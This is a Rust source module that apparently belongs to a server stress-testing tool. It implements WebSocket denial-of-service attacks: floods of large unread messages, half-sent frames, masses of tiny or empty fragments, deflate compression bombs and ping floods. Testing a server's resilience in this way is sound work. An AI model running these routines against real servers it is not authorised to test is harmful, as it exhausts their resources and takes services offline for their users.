//! Attacks on plain sockets, by WebSocket.

use std::io;

use super::{Attacker, Open, Sent, Target, frame_head};
use crate::wire::Deflater;

const MIB: usize = 1 << 20;
/// The default limit of messages.
const LARGEST: usize = 8 * MIB;

async fn open(target: &Target, compress: bool) -> io::Result<Attacker> {
    Attacker::websocket(
        target.address,
        &format!("{}/websocket", target.raw),
        compress,
    )
    .await
}

pub(super) async fn echoes_that_are_not_read(target: &Target) -> io::Result<Open> {
    let (mut attackers, mut sent) = (Vec::new(), Sent::All);
    for _ in 0..16 {
        let mut attacker = open(target, false).await?;
        for _ in 0..8 {
            attacker.send(&frame_head(true, false, 2, LARGEST)).await;
            sent = attacker.send_letters(LARGEST).await;
            if sent != Sent::All {
                break;
            }
        }
        attackers.push(attacker);
    }
    Ok(Open::after(sent, attackers))
}

pub(super) async fn half_frames(target: &Target) -> io::Result<Open> {
    let (mut attackers, mut sent) = (Vec::new(), Sent::All);
    for _ in 0..16 {
        let mut attacker = open(target, false).await?;
        attacker.send(&frame_head(true, false, 1, LARGEST)).await;
        sent = attacker.send_letters(LARGEST - 1).await;
        attackers.push(attacker);
    }
    Ok(Open::after(sent, attackers))
}

pub(super) async fn fragments(target: &Target) -> io::Result<Open> {
    let mut small = open(target, false).await?;
    let fragment = [frame_head(false, false, 0, 100), vec![b'x'; 100]]
        .concat()
        .repeat(600);
    small.send(&frame_head(false, false, 2, 0)).await;
    small.send_times(&fragment, LARGEST / 60_000).await;
    let mut empty = open(target, false).await?;
    let fragment = frame_head(false, false, 0, 0).repeat(10_000);
    empty.send(&frame_head(false, false, 2, 0)).await;
    let sent = empty.send_times(&fragment, 20).await;
    Ok(Open::after(sent, vec![small, empty]))
}

pub(super) async fn bombs(target: &Target) -> io::Result<Open> {
    let mut attacker = open(target, true).await?;
    let payload = Deflater::default().deflate(&vec![0; LARGEST]);
    attacker.send(&text("hang")).await;
    let message = [frame_head(true, true, 2, payload.len()), payload].concat();
    let mut other = open(target, true).await?;
    attacker.send(&message.repeat(500)).await;
    let sent = other.send(&message.repeat(500)).await;
    Ok(Open::after(sent, vec![attacker, other]))
}

pub(super) async fn pings(target: &Target) -> io::Result<Open> {
    let mut attacker = open(target, false).await?;
    let ping = [frame_head(true, false, 9, 125), vec![b'x'; 125]].concat();
    let sent = attacker.send_times(&ping.repeat(1_000), 2_000).await;
    Ok(Open::after(sent, vec![attacker]))
}

fn text(text: &str) -> Vec<u8> {
    [&frame_head(true, false, 1, text.len()), text.as_bytes()].concat()
}
